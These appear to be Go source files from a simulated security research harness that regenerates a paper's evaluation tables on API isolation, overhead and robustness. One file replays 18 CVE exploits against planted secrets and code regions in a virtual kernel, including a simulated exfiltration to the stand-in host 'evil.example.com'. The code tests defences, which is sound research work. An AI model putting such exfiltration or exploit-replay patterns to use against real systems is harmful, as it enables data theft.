		Title:  "Table 2: Framework APIs Categorized for the Motivating Example (simcv)",
		Header: []string{"Type", "# APIs", "Examples"},
	}
	for _, ty := range framework.ConcreteTypes() {
		names := counts[ty]
		sort.Strings(names)
		ex := names
		if len(ex) > 4 {
			ex = ex[:4]
		}
		t.Add(ty.Long(), d(len(names)), fmt.Sprintf("%v", ex))
	}
	return t.String(), nil
}

// Table3 aggregates vulnerable-API usage across the 56-app study.
func Table3() (string, error) {
	rows := attack.Table3(attack.Study56())
	t := &Table{
		Title:  "Table 3: Categorization of Vulnerable APIs in 56 Applications",
		Header: []string{"Framework", "DL avg", "DL max", "DL total", "DP avg", "DP max", "DP total", "V avg", "V max", "V total", "ST avg", "ST max", "ST total"},
	}
	for _, r := range rows {
		t.Add(r.Framework,
			f1(r.Avg[framework.TypeLoading]), d(r.Max[framework.TypeLoading]), d(r.Total[framework.TypeLoading]),
			f1(r.Avg[framework.TypeProcessing]), d(r.Max[framework.TypeProcessing]), d(r.Total[framework.TypeProcessing]),
			f1(r.Avg[framework.TypeVisualizing]), d(r.Max[framework.TypeVisualizing]), d(r.Total[framework.TypeVisualizing]),
			f1(r.Avg[framework.TypeStoring]), d(r.Max[framework.TypeStoring]), d(r.Total[framework.TypeStoring]))
	}
	return t.String(), nil
}

// Table4 lists example categorized APIs per framework.
func Table4() (string, error) {
	_, cat := hybridCat()
	reg := all.Registry()
	t := &Table{
		Title:  "Table 4: API Type Categorization Examples",
		Header: []string{"Framework", "Type", "Examples"},
	}
	for _, fw := range reg.Frameworks() {
		perType := map[framework.APIType][]string{}
		for _, api := range reg.ByFramework(fw) {
			ty := cat.TypeOf(api.Name)
			if len(perType[ty]) < 3 {
				perType[ty] = append(perType[ty], api.Name)
			}
		}
		for _, ty := range framework.ConcreteTypes() {
			if len(perType[ty]) == 0 {
				continue
			}
			t.Add(fw, ty.String(), fmt.Sprintf("%v", perType[ty]))
		}
	}
	return t.String(), nil
}

// Table5 lists the evaluation CVEs.
func Table5() (string, error) {
	t := &Table{
		Title:  "Table 5: CVEs used for Evaluation",
		Header: []string{"CVE", "Class", "API site", "API type", "Affected samples"},
	}
	for _, c := range attack.EvalCVEs() {
		t.Add(c.ID, c.Class.String(), c.API, c.APIType.String(), fmt.Sprintf("%v", c.Samples))
	}
	return t.String(), nil
}

// Table6 runs all 23 applications and tabulates their API usage.
func Table6() (string, error) {
	_, cat := hybridCat()
	t := &Table{
		Title:  "Table 6: Applications used for Evaluation (measured API usage)",
		Header: []string{"ID", "Name", "Framework", "SLOC", "DL uniq", "DL tot", "DP uniq", "DP tot", "V uniq", "V tot", "ST uniq", "ST tot"},
	}
	for _, a := range apps.All() {
		k := kernel.New()
		e := apps.NewEnv(k, core.NewDirect(k, all.Registry()), a)
		if err := a.Run(e); err != nil {
			return "", fmt.Errorf("%s: %w", a.Name, err)
		}
		usage := analysis.UsageByType(cat, e.Calls)
		dl, dp := usage[framework.TypeLoading], usage[framework.TypeProcessing]
		v, st := usage[framework.TypeVisualizing], usage[framework.TypeStoring]
		t.Add(d(a.ID), a.Name, a.Framework, d(a.SLOC),
			d(dl.Unique), d(dl.Total), d(dp.Unique), d(dp.Total),
			d(v.Unique), d(v.Total), d(st.Unique), d(st.Total))
	}
	return t.String(), nil
}

// Table7 derives the per-agent-type syscall allowlists for the simcv APIs.
func Table7() (string, error) {
	a, cat := hybridCat()
	var simcvAPIs []string
	for _, api := range a.Registry.ByFramework("simcv") {
		simcvAPIs = append(simcvAPIs, api.Name)
	}
	policies := a.DeriveSyscallPolicy(cat, simcvAPIs)
	t := &Table{
		Title:  "Table 7: System Calls Allowed for Each API Type (simcv)",
		Header: []string{"Agent type", "#Syscalls", "Allowed (first 8)"},
	}
	for _, ty := range framework.ConcreteTypes() {
		p := policies[ty]
		names := make([]string, 0, len(p.Allowed))
		for _, sc := range p.Allowed {
			names = append(names, string(sc))
		}
		show := names
		if len(show) > 8 {
			show = show[:8]
		}
		t.Add(ty.Long(), d(len(names)), fmt.Sprintf("%v", show))
	}
	return t.String(), nil
}

// Table8 restates the security rubric (a static definition in the paper).
func Table8() (string, error) {
	t := &Table{
		Title:  "Table 8: Rubric for Level of Security of Data and APIs",
		Header: []string{"Criterion", "Checked by"},
	}
	t.Add("Memory corruption on critical data mitigated", "Table 1 attack M")
	t.Add("Memory permissions enforced on critical data", "core temporal permissions (TestTemporalPermissions)")
	t.Add("Critical data not shared with APIs", "address-space isolation (TestSpacesAreIsolated)")
	t.Add("Code-rewriting of other API code mitigated", "Table 1 attack C")
	t.Add("Vulnerable APIs isolated", "Table 1 isolated-CVE column")
	t.Add("APIs distributed over processes", "Table 10 granularity")
	return t.String(), nil
}

// Table9 measures IPCs, bytes, and time per technique on the OMR workload.
func Table9(sheets int) (string, error) {
	t := &Table{
		Title:  "Table 9: Overhead of Existing Techniques and FreePart (OMR workload)",
		Header: []string{"Technique", "#IPC", "Data (bytes)", "Time (virtual)"},
	}
	for _, kind := range []baseline.Kind{
		baseline.CodeAPI, baseline.CodeAPIData, baseline.LibraryEntire,
		baseline.LibraryPerAPI, baseline.MemoryBased,
	} {
		p, err := baseline.MeasureBaseline(kind, sheets, 8, 4)
		if err != nil {
			return "", err
		}
		t.Add(p.Technique, u(p.IPCs), u(p.Bytes), p.Time.String())
	}
	fp, err := baseline.MeasureFreePart(true, sheets, 8, 4)
	if err != nil {
		return "", err
	}
	t.Add(fp.Technique, u(fp.IPCs), u(fp.Bytes), fp.Time.String())
	base, err := baseline.MeasureUnprotected(sheets, 8, 4)
	if err != nil {
		return "", err
	}
	t.Add(base.Technique, u(base.IPCs), u(base.Bytes), base.Time.String())
	return t.String(), nil
}

// Table10 reports APIs per process for every technique.
func Table10() (string, error) {
	t := &Table{
		Title:  "Table 10: API Isolation Granularity (APIs per process, host first)",
		Header: []string{"Technique", "APIs per process"},
	}
	for _, kind := range []baseline.Kind{
		baseline.CodeAPI, baseline.CodeAPIData, baseline.LibraryEntire,
		baseline.LibraryPerAPI, baseline.MemoryBased,
	} {
		v, err := baseline.EvaluateSecurity(kind)
		if err != nil {
			return "", err
		}
		t.Add(v.Technique, fmt.Sprintf("%v", v.APIsPerProcess))
	}
	fp, err := baseline.EvaluateFreePartSecurity()
	if err != nil {
		return "", err
	}
	t.Add(fp.Technique, fmt.Sprintf("%v", fp.APIsPerProcess))
	return t.String(), nil
}

// Table11 reports the dynamic analysis coverage per framework.
func Table11() (string, error) {
	k := kernel.New()
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(k, runner)
	t := &Table{
		Title:  "Table 11: Coverage of Dynamic Analysis for API Categorization",
		Header: []string{"Framework", "API coverage", "Code coverage"},
	}
	for _, fw := range reg.Frameworks() {
		cov := runner.CoverageFor(fw)
		t.Add(fw, fmt.Sprintf("%.1f%% (%d/%d)", cov.APIPct(), cov.APICovered, cov.APITotal),
			fmt.Sprintf("%.0f%%", cov.CodeCoverage))
	}
	return t.String(), nil
}

// Table12 runs every app under FreePart and reports lazy vs eager copies.
func Table12() (string, error) {
	_, cat := hybridCat()
	t := &Table{
		Title:  "Table 12: Statistics of Lazy Data Copy Operations",
		Header: []string{"Application", "Lazy copies", "Eager copies"},
	}
	var lazyTotal, eagerTotal uint64
	for _, a := range apps.All() {
		k := kernel.New()
		reg := all.Registry()
		rt, err := core.New(k, reg, cat, core.Default())
		if err != nil {
			return "", err
		}
		e := apps.NewEnv(k, rt, a)
		if err := a.Run(e); err != nil {
			rt.Close()
			return "", fmt.Errorf("%s: %w", a.Name, err)
		}
		s := rt.Metrics.Snapshot()
		rt.Close()
		t.Add(a.Name, u(s.LazyCopies), u(s.EagerCopies))
		lazyTotal += s.LazyCopies
		eagerTotal += s.EagerCopies
	}
	frac := 100 * float64(lazyTotal) / float64(lazyTotal+eagerTotal)
	t.Add("Total", fmt.Sprintf("%d (%.2f%%)", lazyTotal, frac),
		fmt.Sprintf("%d (%.2f%%)", eagerTotal, 100-frac))
	return t.String(), nil
}

// TableRobustness sweeps fault-injection intensity over the OMRChecker
// pipeline and reports, per intensity, the injected fault mix and the
// supervision work (restarts, retries, degradations) needed to keep every
// run's output byte-identical to the fault-free baseline.
func TableRobustness(seedsPer, sheets int) (string, error) {
	reg := all.Registry()
	cat := analysis.New(reg, nil).Categorize()
	run := func(eng *chaos.Engine) (csv []byte, scores []int, snap metrics.Snapshot, err error) {
		cfg := core.Default()
		if eng != nil {
			cfg = core.ChaosConfig(eng)
		}
		k := kernel.New()
		rt, err := core.New(k, reg, cat, cfg)
		if err != nil {
			return nil, nil, snap, err
		}
		defer rt.Close()
		a, _ := apps.ByID(8) // OMRChecker
		e := apps.NewEnv(k, rt, a)
		func() {
			defer func() {
				if r := recover(); r != nil {
					err = fmt.Errorf("pipeline aborted: %v", r)
				}
			}()
			_, scores, err = apps.OMRGradeAll(e, sheets)
		}()
		if err != nil {
			return nil, nil, rt.Metrics.Snapshot(), err
		}
		csv, err = k.FS.ReadFile(e.Dir + "/results.csv")
		return csv, scores, rt.Metrics.Snapshot(), err
	}

	baseCSV, _, _, err := run(nil)
	if err != nil {
		return "", err
	}
	t := &Table{
		Title:  "Robustness: supervision policy under seeded fault injection (OMR workload)",
		Header: []string{"Intensity", "Injected", "Restarts", "Retries", "Degraded", "Degraded calls", "Output equal"},
	}
	for _, intensity := range []float64{0, 0.02, 0.05, 0.10, 0.20} {
		var injected, restarts, retries, degraded, degradedCalls uint64
		equal := 0
		for seed := 1; seed <= seedsPer; seed++ {
			eng := chaos.New(chaos.Scaled(int64(seed), intensity))
			csv, _, snap, err := run(eng)
			if err == nil && bytes.Equal(csv, baseCSV) {
				equal++
			}
			injected += eng.Injected()
			restarts += snap.Restarts
			retries += snap.Retries
			degraded += snap.Degraded
			degradedCalls += snap.DegradedCalls
		}
		t.Add(fmt.Sprintf("%.2f", intensity), u(injected), u(restarts), u(retries),
			u(degraded), u(degradedCalls), fmt.Sprintf("%d/%d", equal, seedsPer))
	}
	return t.String(), nil
}
