package report

import (
	"encoding/json"
	"os"
	"path/filepath"
	"reflect"
	"testing"
)

// TestServingScalesWithShards pins the serving layer's headline number:
// virtual-time throughput at 4 shards is at least 2x the 1-shard baseline,
// and every request is served at every shard count.
func TestServingScalesWithShards(t *testing.T) {
	results, err := MeasureServing([]int{1, 4}, 32)
	if err != nil {
		t.Fatal(err)
	}
	if len(results) != 2 {
		t.Fatalf("got %d rows", len(results))
	}
	for _, r := range results {
		if r.Served != r.Requests {
			t.Fatalf("%d shards: served %d/%d", r.Shards, r.Served, r.Requests)
		}
		if r.CriticalPath <= 0 {
			t.Fatalf("%d shards: critical path did not advance", r.Shards)
		}
		if r.P50 > r.P95 || r.P95 > r.P99 {
			t.Fatalf("%d shards: percentiles not monotone: %v %v %v", r.Shards, r.P50, r.P95, r.P99)
		}
	}
	if results[1].Speedup < 2.0 {
		t.Fatalf("4-shard speedup %.2fx, want >= 2x (crit path %v vs %v)",
			results[1].Speedup, results[1].CriticalPath, results[0].CriticalPath)
	}
}

// TestServingDeterministic reruns the measurement and demands identical
// rows: virtual-time serving numbers are machine- and schedule-independent.
func TestServingDeterministic(t *testing.T) {
	a, err := MeasureServing([]int{1, 2}, 24)
	if err != nil {
		t.Fatal(err)
	}
	b, err := MeasureServing([]int{1, 2}, 24)
	if err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(a, b) {
		t.Fatalf("serving results diverged between identical runs:\n%+v\nvs\n%+v", a, b)
	}
}

// TestWriteServingJSON checks the benchmark artifact round-trips.
func TestWriteServingJSON(t *testing.T) {
	results, err := MeasureServing([]int{1}, 8)
	if err != nil {
		t.Fatal(err)
	}
	path := filepath.Join(t.TempDir(), "BENCH_serving.json")
	if err := WriteServingJSON(path, results); err != nil {
		t.Fatal(err)
	}
	raw, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	var back []ServingResult
	if err := json.Unmarshal(raw, &back); err != nil {
		t.Fatalf("artifact is not valid JSON: %v", err)
	}
	if !reflect.DeepEqual(back, results) {
		t.Fatalf("artifact did not round-trip:\n%+v\nvs\n%+v", back, results)
	}
}
