package report

import (
	"encoding/json"
	"fmt"
	"os"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/framework/simcv"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/mem"
	"freepart.dev/freepart/internal/vclock"
)

// IsolationCVEOutcome is one cell of the blocked-CVE matrix: one evaluation
// CVE replayed live under one isolation policy.
type IsolationCVEOutcome struct {
	// CVE is the vulnerability id (Table 5).
	CVE string `json:"cve"`
	// API is the vulnerable API the exploit was driven through.
	API string `json:"api"`
	// Class is the vulnerability class (attack.VulnClass).
	Class string `json:"class"`
	// Tier is the isolation tier the policy assigns to the CVE's API type.
	Tier string `json:"tier"`
	// Blocked reports whether the class verdict held after the attack ran:
	// critical data intact (mem write), nothing on the wire (mem read),
	// host alive (DoS), code pages intact (RCE).
	Blocked bool `json:"blocked"`
	// Detected reports whether the attack was at least observed: either
	// contained outright (every blocked attack is a detection — the key
	// fault, seccomp kill, or agent crash is the signal), or flagged by
	// the DoS resource watchdog when a domain- or host-tier invocation
	// killed the host. The imshow DoS escapes the tiered preset's domain
	// tier (Blocked false) but no longer escapes silently (Detected true).
	Detected bool `json:"detected"`
}

// IsolationResult is one row of the blocked-CVEs-vs-overhead frontier: one
// policy's live security matrix plus its serving cost.
type IsolationResult struct {
	// Policy is the preset name (paper / tiered / erim / none).
	Policy string `json:"policy"`
	// Blocked counts CVEs the policy contained, out of Total; Detected
	// counts CVEs at least observed (blocked, or caught by the DoS
	// resource watchdog).
	Blocked  int `json:"blocked"`
	Detected int `json:"detected"`
	Total    int `json:"total"`
	// CriticalPath is the serving probe's max-merged virtual time across
	// shards: the full detection pipeline (load, detect, annotate, show,
	// store) over a fixed request stream.
	CriticalPath vclock.Duration `json:"critical_path_ns"`
	// OverheadPct is CriticalPath relative to the "none" (in-host) row.
	OverheadPct float64 `json:"overhead_pct"`
	// DomainSwitches / DomainCopies count the MPK-tier accounting events the
	// serving probe generated (zero for pure process or host policies).
	DomainSwitches uint64 `json:"domain_switches"`
	DomainCopies   uint64 `json:"domain_copies"`
	// CVEs is the per-CVE matrix behind Blocked.
	CVEs []IsolationCVEOutcome `json:"cves"`
}

// MeasureIsolation maps the blocked-CVEs-vs-overhead frontier: every
// isolation preset replays all 18 evaluation CVEs live through their own
// API sites, then serves a fixed detection request stream to price the
// mechanism. Everything runs in virtual time and is deterministic.
func MeasureIsolation(shards, requests int) ([]IsolationResult, error) {
	reg := all.Registry()
	cat := hybridCatCached(reg)
	cves := attack.EvalCVEs()

	out := make([]IsolationResult, 0, len(isolation.Presets()))
	for _, pol := range isolation.Presets() {
		res := IsolationResult{Policy: pol.Name, Total: len(cves)}
		for _, cve := range cves {
			blocked, detected, err := replayIsolationCVE(cat, pol, cve)
			if err != nil {
				return nil, fmt.Errorf("report: %s under %s: %w", cve.ID, pol.Name, err)
			}
			if blocked {
				res.Blocked++
			}
			if detected {
				res.Detected++
			}
			res.CVEs = append(res.CVEs, IsolationCVEOutcome{
				CVE:      cve.ID,
				API:      cve.API,
				Class:    cve.Class.String(),
				Tier:     pol.TierOf(cve.APIType).String(),
				Blocked:  blocked,
				Detected: detected,
			})
		}
		crit, switches, copies, err := isolationServing(reg, cat, pol, shards, requests)
		if err != nil {
			return nil, fmt.Errorf("report: serving under %s: %w", pol.Name, err)
		}
		res.CriticalPath = crit
		res.DomainSwitches = switches
		res.DomainCopies = copies
		out = append(out, res)
	}

	// Overhead is priced against the unprotected in-host baseline.
	var base vclock.Duration
	for _, r := range out {
		if r.Policy == "none" {
			base = r.CriticalPath
		}
	}
	if base > 0 {
		for i := range out {
			out[i].OverheadPct = 100 * (float64(out[i].CriticalPath)/float64(base) - 1)
		}
	}
	return out, nil
}

// replayIsolationCVE runs one CVE's exploit live under one policy and
// returns the class verdict. The attack targets are planted in the host
// process: a critical secret (registered, so MPK policies tag it with the
// host-critical key) and an r-x code region (deliberately untagged — MPK
// does not stop an in-process mprotect, and the verdict must show that).
func replayIsolationCVE(cat *analysis.Categorization, pol *isolation.Policy, cve attack.CVE) (blocked, detected bool, err error) {
	k := kernel.New()
	// The DoS resource watchdog observes domain- and host-tier invocations
	// that kill the host: pure observation (no clock advance), so the
	// verdicts are exactly those of a watchdog-less run.
	var watchdog bool
	cfg := core.ConfigForIsolation(pol)
	cfg.OnAnomaly = func(framework.APIType, string, string, string) { watchdog = true }
	rt, err := core.New(k, all.Registry(), cat, cfg)
	if err != nil {
		return false, false, err
	}
	defer rt.Close()
	log := &attack.Log{}
	rt.OnExploit = log.Handler()

	crit, err := rt.Host.Space().Alloc(32)
	if err != nil {
		return false, false, err
	}
	if err := rt.Host.Space().Store(crit.Base, []byte("sensitive")); err != nil {
		return false, false, err
	}
	rt.RegisterCritical(crit)

	code, err := rt.Host.Space().Alloc(64)
	if err != nil {
		return false, false, err
	}
	codeBytes := []byte("TRUSTED-CODE-SEG")
	if err := rt.Host.Space().Store(code.Base, codeBytes); err != nil {
		return false, false, err
	}
	if _, err := rt.Host.Space().ProtectRegion(code, mem.PermRead|mem.PermExec); err != nil {
		return false, false, err
	}

	var payload []byte
	switch cve.Class {
	case attack.ClassMemWrite:
		payload = attack.Corrupt(cve.ID, crit.Base, []byte("OWNED"))
	case attack.ClassMemRead:
		payload = attack.Exfiltrate(cve.ID, crit.Base, 9, "evil.example.com")
	case attack.ClassRCE:
		payload = attack.CodeRewrite(cve.ID, code.Base, len(codeBytes))
	default:
		payload = attack.DoS(cve.ID)
	}

	// Drive the exploit through the CVE's own API site. Call errors are the
	// expected outcome of a fired exploit; the verdict below is what counts.
	driveIsolationCVE(k, rt, cve, payload)

	switch cve.Class {
	case attack.ClassMemWrite:
		data, _ := rt.Host.Space().Load(crit.Base, 9)
		blocked = string(data) == "sensitive"
	case attack.ClassMemRead:
		blocked = len(k.Net.Sent()) == 0
	case attack.ClassRCE:
		data, _ := rt.Host.Space().Load(code.Base, len(codeBytes))
		blocked = string(data) == string(codeBytes)
	default:
		blocked = rt.Host.Alive()
	}
	// Every blocked attack is a detection (its containment mechanism is
	// the signal); the watchdog adds detection of host-killing DoS that
	// the tier itself could not contain.
	return blocked, blocked || watchdog, nil
}

// driveIsolationCVE feeds the crafted payload into the CVE's vulnerable
// API: via a crafted file, a pushed camera frame, an exact-length mat (the
// trigger parser reads the payload to the end of the object's bytes), or a
// trigger-carrying tensor padded with 0.5 (an invalid byte value, so the
// trigger scan stops exactly at the payload's end).
func driveIsolationCVE(k *kernel.Kernel, rt *core.Runtime, cve attack.CVE, payload []byte) {
	ctx := rt.HostCtx()
	switch cve.API {
	case "cv.imread", "cv.cvLoad":
		k.FS.WriteFile("/data/evil.img", payload)
		_, _, _ = rt.Call(cve.API, framework.Str("/data/evil.img"))
	case "cv.VideoCapture.read":
		cam := kernel.NewCamera("/dev/camera0")
		cam.Push(payload)
		k.AddCamera(cam)
		h, _, err := rt.Call("cv.VideoCapture", framework.Int64(0))
		if err != nil || len(h) == 0 {
			return
		}
		_, _, _ = rt.Call("cv.VideoCapture.read", h[0].Value())
	case "cv.CascadeClassifier.detectMultiScale":
		k.FS.WriteFile("/data/model.xml", simcv.EncodeClassifier(150, 4))
		mh, _, err := rt.Call("cv.CascadeClassifier", framework.Str("/data/model.xml"))
		if err != nil || len(mh) == 0 {
			return
		}
		id, _, err := ctx.NewMatFromBytes(1, len(payload), 1, payload)
		if err != nil {
			return
		}
		_, _, _ = rt.Call(cve.API, mh[0].Value(), framework.Obj(id))
	case "cv.warpPerspective":
		id, _, err := ctx.NewMatFromBytes(1, len(payload), 1, payload)
		if err != nil {
			return
		}
		hid, ht, err := ctx.NewTensor(9)
		if err != nil {
			return
		}
		_ = ht.SetValues([]float64{1, 0, 0, 0, 1, 0, 0, 0, 1})
		_, _, _ = rt.Call(cve.API, framework.Obj(id), framework.Obj(hid))
	case "cv.equalizeHist", "cv.findContours":
		id, _, err := ctx.NewMatFromBytes(1, len(payload), 1, payload)
		if err != nil {
			return
		}
		_, _, _ = rt.Call(cve.API, framework.Obj(id))
	case "cv.imshow":
		id, _, err := ctx.NewMatFromBytes(1, len(payload), 1, payload)
		if err != nil {
			return
		}
		_, _, _ = rt.Call(cve.API, framework.Str("w"), framework.Obj(id))
	case "tf.nn.conv3d":
		id, ok := triggerTensor(ctx, payload, 3, 3, 3)
		if ok {
			_, _, _ = rt.Call(cve.API, framework.Obj(id))
		}
	case "tf.nn.avg_pool", "tf.nn.max_pool":
		id, ok := triggerTensor(ctx, payload, 8, 8)
		if ok {
			_, _, _ = rt.Call(cve.API, framework.Obj(id))
		}
	case "tf.matmul":
		id, ok := triggerTensor(ctx, payload, 8, 8)
		if ok {
			_, _, _ = rt.Call(cve.API, framework.Obj(id), framework.Obj(id))
		}
	}
}

// triggerTensor builds a tensor whose leading values spell the trigger
// bytes, padded with 0.5 so the byte scan stops at the payload boundary.
func triggerTensor(ctx *framework.Ctx, payload []byte, shape ...int) (uint64, bool) {
	n := 1
	for _, d := range shape {
		n *= d
	}
	if len(payload) > n {
		return 0, false
	}
	id, t, err := ctx.NewTensor(shape...)
	if err != nil {
		return 0, false
	}
	vals := make([]float64, n)
	for i := range vals {
		vals[i] = 0.5
	}
	for i, b := range payload {
		vals[i] = float64(b)
	}
	if err := t.SetValues(vals); err != nil {
		return 0, false
	}
	return id, true
}

// isolationServing prices one policy: a session-sharded executor serves a
// fixed detection stream where every request crosses all four API types
// (load, detect, annotate, show, store), so tiering visualizing/storing
// down to MPK domains shows up in the critical path. Returns the critical
// path and the summed domain-switch/copy counts across shards.
func isolationServing(reg *framework.Registry, cat *analysis.Categorization, pol *isolation.Policy, shards, requests int) (vclock.Duration, uint64, uint64, error) {
	reqs := apps.GenDetectionRequests(7, requests)
	for i := range reqs {
		reqs[i].Arrival = 0 // closed loop: measure capacity, not arrival pacing
	}
	ex, err := core.NewExecutor(shards, core.ProtectedShards(reg, cat, core.ConfigForIsolation(pol)))
	if err != nil {
		return 0, 0, 0, err
	}
	defer ex.Close()

	models := make([]core.Handle, ex.Shards())
	for i := 0; i < ex.Shards(); i++ {
		sh := ex.Shard(i)
		sh.K.FS.WriteFile("/srv/model.xml", simcv.EncodeClassifier(150, 4))
		h, _, err := sh.Ex.Call("cv.CascadeClassifier", framework.Str("/srv/model.xml"))
		if err != nil {
			return 0, 0, 0, fmt.Errorf("shard %d model load: %w", i, err)
		}
		if len(h) == 0 {
			return 0, 0, 0, fmt.Errorf("shard %d model load returned no handle", i)
		}
		models[i] = h[0]
		// Steady state only: provisioning cost is identical per shard and
		// would dilute the per-call mechanism cost being compared.
		sh.K.Clock.Reset()
	}

	for i := range reqs {
		rq := reqs[i]
		err := ex.Session().Do(func(sh *core.Shard) error {
			path := fmt.Sprintf("/srv/req-%d.img", i)
			sh.K.FS.WriteFile(path, rq.Body)
			img, _, err := sh.Ex.Call("cv.imread", framework.Str(path))
			if err != nil {
				return err
			}
			if _, _, err := sh.Ex.Call("cv.CascadeClassifier.detectMultiScale",
				models[sh.ID].Value(), img[0].Value()); err != nil {
				return err
			}
			boxed, _, err := sh.Ex.Call("cv.rectangle", img[0].Value())
			if err != nil {
				return err
			}
			if _, _, err := sh.Ex.Call("cv.imshow", framework.Str("srv"), boxed[0].Value()); err != nil {
				return err
			}
			_, _, err = sh.Ex.Call("cv.imwrite",
				framework.Str(fmt.Sprintf("/srv/out-%d.img", i)), boxed[0].Value())
			return err
		})
		if err != nil {
			return 0, 0, 0, fmt.Errorf("request %d: %w", i, err)
		}
	}

	var switches, copies uint64
	for i := 0; i < ex.Shards(); i++ {
		if rt := ex.Shard(i).Rt; rt != nil {
			snap := rt.Metrics.Snapshot()
			switches += snap.DomainSwitches
			copies += snap.DomainCopies
		}
	}
	return ex.CriticalPath(), switches, copies, nil
}

// TableIsolation renders the frontier and optionally writes the rows as
// JSON to jsonPath (the BENCH_isolation.json artifact).
func TableIsolation(jsonPath string) (string, error) {
	results, err := MeasureIsolation(4, 64)
	if err != nil {
		return "", err
	}
	t := &Table{
		Title:  "Isolation tiers: blocked CVEs vs serving overhead (18 live exploits, virtual time)",
		Header: []string{"Policy", "Blocked", "Detected", "Critical path", "Overhead vs none", "Domain switches", "Domain copies"},
	}
	for _, r := range results {
		t.Add(r.Policy, fmt.Sprintf("%d/%d", r.Blocked, r.Total), fmt.Sprintf("%d/%d", r.Detected, r.Total),
			r.CriticalPath.String(),
			fmt.Sprintf("%+.2f%%", r.OverheadPct), d(int(r.DomainSwitches)), d(int(r.DomainCopies)))
	}
	t.Notes = append(t.Notes,
		"Every CVE is replayed live through its own API site; Blocked counts class verdicts that held.",
		"Detected adds the resource watchdog: a blocked attack is a detection, and a host-killing DoS that",
		"  escapes a non-process tier (e.g. the imshow DoS under the tiered preset) now trips the watchdog",
		"  instead of vanishing silently — raw material for the adaptive defense controller.",
		"Overhead is the serving critical path (4 shards, 64 full-pipeline requests) vs the in-host baseline.",
		"The domain tier blocks cross-domain reads/writes but shares the host's fate: DoS and mprotect-based RCE pass.")
	if jsonPath != "" {
		if err := WriteIsolationJSON(jsonPath, results); err != nil {
			return "", err
		}
		t.Notes = append(t.Notes, fmt.Sprintf("rows written to %s", jsonPath))
	}

	m := &Table{
		Title:  "Blocked-CVE matrix (rows: CVE; columns: policy)",
		Header: []string{"CVE", "Class", "API"},
	}
	for _, r := range results {
		m.Header = append(m.Header, r.Policy)
	}
	if len(results) > 0 {
		for i, c := range results[0].CVEs {
			row := []string{c.CVE, c.Class, c.API}
			for _, r := range results {
				cell := "blocked"
				if !r.CVEs[i].Blocked {
					cell = "-"
				}
				row = append(row, cell)
			}
			m.Add(row...)
		}
	}
	return t.String() + "\n" + m.String(), nil
}

// WriteIsolationJSON writes frontier rows as indented JSON.
func WriteIsolationJSON(path string, results []IsolationResult) error {
	b, err := json.MarshalIndent(results, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(b, '\n'), 0o644)
}
