// Package report regenerates every table and figure of the paper's
// evaluation from the simulation, rendering them in the paper's row/column
// shape. Each Table*/Fig* function runs its experiment and returns the
// formatted result; cmd/experiments and the benchmark harness drive them.
package report

import (
	"fmt"
	"strings"
)

// Table renders rows of cells with a header, padding columns to width.
type Table struct {
	Title  string
	Header []string
	Rows   [][]string
	Notes  []string
}

// Add appends one row.
func (t *Table) Add(cells ...string) {
	t.Rows = append(t.Rows, cells)
}

// String renders the table as aligned ASCII.
func (t *Table) String() string {
	widths := make([]int, len(t.Header))
	for i, h := range t.Header {
		widths[i] = len(h)
	}
	for _, row := range t.Rows {
		for i, c := range row {
			if i < len(widths) && len(c) > widths[i] {
				widths[i] = len(c)
			}
		}
	}
	var b strings.Builder
	if t.Title != "" {
		fmt.Fprintf(&b, "%s\n", t.Title)
	}
	line := func(cells []string) {
		for i, c := range cells {
			if i > 0 {
				b.WriteString("  ")
			}
			fmt.Fprintf(&b, "%-*s", widths[i], c)
		}
		b.WriteByte('\n')
	}
	line(t.Header)
	total := 0
	for _, w := range widths {
		total += w + 2
	}
	b.WriteString(strings.Repeat("-", total))
	b.WriteByte('\n')
	for _, row := range t.Rows {
		line(row)
	}
	for _, n := range t.Notes {
		fmt.Fprintf(&b, "  %s\n", n)
	}
	return b.String()
}

// Series renders a labelled numeric series (our figures are ASCII charts).
type Series struct {
	Title  string
	XLabel string
	YLabel string
	Points []Point
}

// Point is one (x, y) sample with an optional label.
type Point struct {
	X     string
	Y     float64
	Label string
}

// String renders the series as a horizontal bar chart.
func (s *Series) String() string {
	var b strings.Builder
	if s.Title != "" {
		fmt.Fprintf(&b, "%s\n", s.Title)
	}
	maxY := 0.0
	maxX := 0
	for _, p := range s.Points {
		if p.Y > maxY {
			maxY = p.Y
		}
		if len(p.X) > maxX {
			maxX = len(p.X)
		}
	}
	if maxY == 0 {
		maxY = 1
	}
	for _, p := range s.Points {
		bars := int(p.Y / maxY * 40)
		if bars < 0 {
			bars = 0
		}
		fmt.Fprintf(&b, "%-*s |%-40s %8.2f %s\n", maxX, p.X, strings.Repeat("#", bars), p.Y, p.Label)
	}
	if s.XLabel != "" || s.YLabel != "" {
		fmt.Fprintf(&b, "  (x: %s, y: %s)\n", s.XLabel, s.YLabel)
	}
	return b.String()
}

// check converts a boolean verdict into the paper's pass/fail glyphs.
func check(ok bool) string {
	if ok {
		return "prevented"
	}
	return "FAILED"
}

// f1 formats with one decimal.
func f1(v float64) string { return fmt.Sprintf("%.1f", v) }

// f2 formats with two decimals.
func f2(v float64) string { return fmt.Sprintf("%.2f", v) }

// d formats an int.
func d(v int) string { return fmt.Sprintf("%d", v) }

// u formats a uint64.
func u(v uint64) string { return fmt.Sprintf("%d", v) }
