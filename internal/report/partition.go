package report

import (
	"encoding/json"
	"fmt"
	"os"
	"sort"
	"time"

	"freepart.dev/freepart/internal/apps"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/partition"
	"freepart.dev/freepart/internal/sched"
	"freepart.dev/freepart/internal/vclock"
	"freepart.dev/freepart/internal/workload"
)

// PartitionResult is one row of the partition-aware data-plane experiment:
// the same Zipf-skewed open-loop visit stream served under different
// placement regimes, then the hot-range melt/rebalance arc. The frontier
// the first three rows trace is the tentpole's claim: placement that
// remembers session keys keeps returning users on their warm shard, so the
// cold-miss re-fault (several times the warm service time) drops out of the
